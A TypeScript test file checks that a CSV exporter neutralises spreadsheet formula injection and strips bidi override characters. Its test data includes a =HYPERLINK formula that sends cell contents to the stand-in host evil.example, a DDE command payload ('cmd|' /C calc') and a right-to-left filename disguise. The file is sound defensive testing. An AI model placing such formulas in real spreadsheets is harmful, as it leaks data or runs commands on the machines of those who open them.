import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, readCsvCell, writeCsv } from './spreadsheet-csv';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

describe('CSV cells a spreadsheet reads as text', () => {
  it('puts an apostrophe before every cell that would start a formula (OWASP)', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(csvCell(`${start}cmd|' /C calc'!A0`)).toBe(`'${start}cmd|' /C calc'!A0`);
    expect(csvCell(HYPERLINK)).toBe(`'${HYPERLINK}`);
    expect(csvCell('Acme Ventures')).toBe('Acme Ventures');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(null)).toBe('');
  });

  it('writes the HYPERLINK investor as text and reads it back as it was', () => {
    const csv = writeCsv(['name', 'stage'], [[HYPERLINK, 'Interested']]);
    const [row] = parse(csv, { columns: true }) as Record<string, string>[];
    expect(row!.name).toBe(`'${HYPERLINK}`);
    expect(readCsvCell(row!.name!)).toBe(HYPERLINK);
    // A cell that merely starts with an apostrophe keeps it.
    expect(readCsvCell("'Tis the season")).toBe("'Tis the season");
  });

  it('leaves out the bidi controls of text stored before the input layer, so no cell displays reversed', () => {
    expect(csvCell('\u202eexe.live')).toBe('exe.live');
    // Without its override the formula shows; it is made text like any other.
    expect(csvCell(`\u202e${HYPERLINK}`)).toBe(`'${HYPERLINK}`);
  });
});
